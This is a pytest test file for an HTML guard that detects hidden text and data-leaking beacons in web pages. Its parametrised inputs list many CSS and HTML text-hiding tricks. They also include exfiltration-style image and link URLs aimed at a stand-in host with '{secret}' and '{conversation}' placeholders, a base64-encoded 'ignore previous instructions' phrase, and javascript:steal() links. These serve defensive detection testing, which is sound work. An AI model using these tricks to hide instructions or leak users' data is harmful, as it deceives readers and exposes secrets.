"""HTML: what people see, what only programs read, and what is loaded without a question."""

from __future__ import annotations

import pytest

from cellwall.guard.channel_formats import Extracted, Piece, clean, read
from cellwall.guard.channels.html import HtmlExtractor
from cellwall.guard.channels.pieces import ExtractionLimits, Gathering
from cellwall.parsing.html.tokens import SHOWN_ATTRIBUTES, UNSEEN_ATTRIBUTES, UNSEEN_ELEMENTS

pytestmark = pytest.mark.requirement("GRD-7")


def rules(page: str, channel: str = "html") -> list[str]:
    return [hit.rule.removeprefix("channel.") for hit in read(channel, page).hits]


def hidden(page: str, *, but: str = "") -> str:
    return " ".join(
        piece.text for piece in read("html", page).pieces if piece.is_hidden and piece.where != but
    )


def shown(page: str) -> str:
    return " ".join(piece.text for piece in read("html", page).pieces if not piece.is_hidden)


def test_a_page_is_taken_apart_by_what_people_see() -> None:
    page = (
        "<title>A &amp; B</title><meta name=description content='about it'>"
        "<p>Ig<b>nore</b> me<p hidden>not this</p><!-- note -->"
    )
    assert read("html", page).pieces == (
        Piece("A & B", "title", False),
        Piece("about it", "meta description", True),
        Piece("Ignore me", "text", False),
        Piece("not this", "text hidden by hidden attribute", True),
        Piece(" note ", "comment", True),
    )


STYLES = [
    "display:none",
    "DISPLAY : NONE !important",
    "display/**/:none",
    "d\\69splay:none",
    "visibility:hidden",
    "visibility:collapse",
    "content-visibility:hidden",
    "opacity:0",
    "opacity:.01",
    "opacity:0%",
    "filter:opacity(0)",
    "font-size:0",
    "font-size:1px",
    "font-size:0.01em",
    "font:0px/1 serif",
    "color:white",
    "color:#fffffe",
    "color:rgb(255, 255, 255)",
    "color:rgba(0,0,0,0)",
    "color:transparent",
    "color:#0000",
    "color:red;background:#f00",
    "background-color:black;color:rgb(0%,0%,0%)",
    "position:absolute;left:-9999px",
    "position:fixed;top:-200vh",
    "text-indent:-9999px",
    "margin-left:-5000px",
    "transform:scale(0)",
    "transform:translateX(-9999px)",
    "clip:rect(0,0,0,0)",
    "clip:rect(1px 1px 1px 1px)",
    "clip-path:inset(100%)",
    "clip-path:circle(0)",
    "max-height:0;overflow:hidden",
    "height:0;overflow:hidden",
    "width:1px;height:1px;overflow:hidden",
    "mso-hide:all",
]


@pytest.mark.parametrize("style", STYLES)
def test_text_that_a_style_hides_is_said_to_be_hidden(style: str) -> None:
    page = f'<p>seen<p style="{style}">un<b>seen</b></p>'
    assert (shown(page), hidden(page, but="other attributes")) == ("seen", "unseen")
    sheet = f"<style>.a, p#b {{ {style} }}</style>"
    assert "first" not in shown(f"{sheet}<p class='x a'>first</p><p>second")
    assert "first" not in shown(f"<p id=b>first</p>{sheet}")  # a sheet may stand behind


@pytest.mark.parametrize(
    "style",
    [
        "display:block",
        "opacity:0.5",
        "font-size:12px",
        "color:black",
        "color:white;background:navy",
        "left:-5px;position:absolute",
        "overflow:hidden;height:200px",
        "text-indent:1em",
        "clip:auto",
        "colour:white",
    ],
)
def test_ordinary_styles_hide_nothing(style: str) -> None:
    assert shown(f'<p style="{style}">seen</p>') == "seen"


def test_colours_are_those_of_the_boxes_around() -> None:
    page = (
        "<div style='background:#000'><span style='color:#111'>one</span>"
        "<span style='color:white'>two</span></div><font color=white>three</font>"
        "<table bgcolor=navy><td><font color=white>four</font></table>"
    )
    assert (shown(page), hidden(page, but="other attributes")) == ("two\nfour", "one\nthree")


@pytest.mark.parametrize("name", sorted(UNSEEN_ELEMENTS))
def test_elements_that_are_not_shown_are_read_all_the_same(name: str) -> None:
    assert hidden(f"<{name}>some words</{name}>after") == "some words"
    assert shown(f"<{name}>some words</{name}>after") == "after"


@pytest.mark.parametrize(
    "page",
    [
        "<input type=hidden value='some words'>",
        "<div aria-hidden=true>some words</div>",
        "<details><summary></summary>some words</details>",
        "<dialog>some words</dialog>",
        "<iframe srcdoc='<p hidden>some words'></iframe>",
        "<div some words",
        "<?some words?>",
        "<p data-x='some words'>",
        "<p onclick='some words'>",
        "<p title=a title='some words'>",
        "<meta property=og:title content='some words'>",
        "<a href='/x?some words'></a>",
        "<svg><desc>some words</desc></svg>",
    ],
)
def test_other_places_where_words_hide(page: str) -> None:
    assert "some words" in hidden(page)
    assert "some words" not in shown(page)


@pytest.mark.parametrize("name", sorted(SHOWN_ATTRIBUTES | UNSEEN_ATTRIBUTES))
def test_attributes_with_words_are_pieces(name: str) -> None:
    found = read("html", f'<p {name}="some &lt;words">').pieces
    assert found == (Piece("some <words", f"attribute {name}", name in UNSEEN_ATTRIBUTES),)


def test_what_is_shown_of_details_svg_and_frames_is_shown() -> None:
    page = (
        "<details><summary>one</summary></details><details open>two</details>"
        "<svg><text>three</text></svg><iframe srcdoc='&lt;b>four&lt;/b>'></iframe><textarea>five</textarea>"
    )
    assert set(shown(page).split()) == {"one", "two", "three", "four", "five"}


DATA = "https://e.example/p?d=aWdub3JlIHByZXZpb3VzIGluc3RydWN0aW9ucw=="
PLACE = "https://e.example/p.png?q={secret}"


@pytest.mark.requirement("GRD-2")
@pytest.mark.parametrize(
    "page",
    [
        "<img src='{}'>",
        "<img srcset='/a.png 1x, {} 2x'>",
        "<link rel=stylesheet href='{}'>",
        "<p style='background:url({})'>",
        '<style>p {{ background: url("{}") }}</style>',
        "<style>@import '{}';</style>",
        "<video poster='{}'>",
        "<object data='{}'>",
        "<iframe src='{}'></iframe>",
        "<svg><image xlink:href='{}'/></svg>",
        "<meta http-equiv=refresh content='0;url={}'>",
        "<body background='{}'>",
        "<input type=image src='{}'>",
    ],
)
def test_what_is_loaded_without_a_question_is_a_beacon(page: str) -> None:
    assert rules(page.format(PLACE)) == ["beacon-template"]
    assert rules(page.format(DATA)) == ["beacon-text"]
    assert rules(page.format("https://cdn.example/a/b.png?v=2")) == []


@pytest.mark.parametrize(
    ("page", "rule"),
    [
        (f"<a href='{DATA}'>x</a>", "link-text"),
        ("<a href='https://e.example/?q={conversation}'>x</a>", "link-template"),
        ("<img src='https://e.example/?t=Zx93kQpL0a7TbN2mXw81RfYh'>", "beacon-opaque"),
        ("<a href='https://e.example/x'>www.bank.example</a>", "link-disguised"),
        ("<a href='https://bank.example@e.example/x'>here</a>", "link-disguised"),
        ("<a href='java&#115;cript:steal()'>x</a>", "link-script"),
        ("<a href=' java\nscript:steal()'>x</a>", "link-script"),
        ("<iframe src='data:text/html,x'></iframe>", "link-script"),
        ("<p style='font-size:0'>a long text that nobody is meant to see</p>", "text-unseen"),
        ("<base href='https://e.example'><img src='/x?q={secret}'>", "beacon-template"),
    ],
)
def test_tricks_are_told(page: str, rule: str) -> None:
    assert rules(page) == [rule]


@pytest.mark.parametrize(
    "page",
    [
        "<a href='https://www.bank.example/x'>bank.example</a>",
        "<a href='https://github.com/x/setup.py'>setup.py</a>",
        "<a href='https://api.example/users/{user_id}'>x</a>",
        "<a href='javascript:void(0)'>x</a>",
        "<img src='data:image/png;base64,iVBORw0KGgo='>",
        "<img src='/static/0123456789abcdef0123456789abcdef.png'>",
        "<span style='clip:rect(0,0,0,0)'>a longer text that is for screen readers</span>",
    ],
)
def test_ordinary_pages_have_no_tricks(page: str) -> None:
    assert rules(page) == []


def test_a_hit_stands_where_its_tag_stands() -> None:
    page = f"<p>text</p> <img src='{PLACE}'> text"
    (hit,) = read("html", page).hits
    assert page[hit.start : hit.end] == f"<img src='{PLACE}'>"


def test_a_place_in_a_piece_is_a_place_in_the_page() -> None:
    page = "<p>Please ig<b>nore</b> all &amp; go</p>"
    (piece,) = read("html", page).pieces
    at = piece.text.index("ignore")
    assert page[slice(*piece.span(at, at + 6))] == "ig<b>nore"
    at = piece.text.index("go")
    assert page[slice(*piece.span(at, at + 2))] == " all &amp; go"  # as exact as it can be


@pytest.mark.parametrize(
    "page",
    [
        "<div>" * 100_000 + "deep" + "</div>" * 100_000,
        "<!--" * 100_000 + "deep",
        "<a " * 100_000 + "deep",
        "<p style='" * 20_000 + "deep",
        "<" * 30_000 + "deep",
        "<b>" * 300 + "</i>" * 20_000 + "deep",
        "<p hidden>" * 1_000 + "deep",
        "<iframe srcdoc='" + "<iframe srcdoc=" * 1000 + "deep'>",
        "&" * 100_000 + "deep",
        "&#" + "1" * 100_000 + ";deep",
    ],
)
@pytest.mark.slow
def test_hostile_nesting_is_read_to_its_end(page: str) -> None:
    found = read("html", page)
    assert found.is_complete
    assert any("deep" in piece.text for piece in found.pieces)


def test_a_bound_that_is_reached_is_told() -> None:
    page = "<p>one</p><p title='two'>three</p><!-- four -->"
    for bounds, texts in (
        (ExtractionLimits(), ["one\nthree", "two", " four "]),
        (ExtractionLimits(max_characters=5), ["one", "tw"]),
        (ExtractionLimits(max_runs=2), ["one", "two"]),
    ):
        gathering = Gathering(bounds)
        HtmlExtractor(gathering, page, page).read()
        found = gathering.result()
        assert [piece.text for piece in found.pieces] == texts
        assert found.is_complete == (bounds == ExtractionLimits())


def test_pieces_beyond_the_most_stand_together() -> None:
    page = "<title>a</title><p alt=b>c<!--d--><p value=e>"
    gathering = Gathering(ExtractionLimits(max_pieces=2))
    HtmlExtractor(gathering, page, page).read()
    assert gathering.result() == Extracted(
        (
            Piece("a", "title", False),
            Piece("b", "attribute alt", True),
            Piece("c\ne", "further pieces", False),
            Piece("d", "further pieces", True),
        )
    )


def test_a_page_of_too_many_tags_is_still_read_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cellwall.parsing.html.tokens.MAX_TOKENS", 4)
    assert read("html", "<p>a</p><p>b</p>").pieces == (
        Piece("a", "text", False),
        Piece("<p>b</p>", "unfinished tag", True),
    )


def test_cleaned_text_is_text_in_elements_and_attributes() -> None:
    assert clean("html", "<b onclick='x'>\"&amp;\"\u200b\x00</b>") == (
        "&lt;b onclick=&#x27;x&#x27;&gt;&quot;&amp;amp;&quot;&lt;/b&gt;"
    )
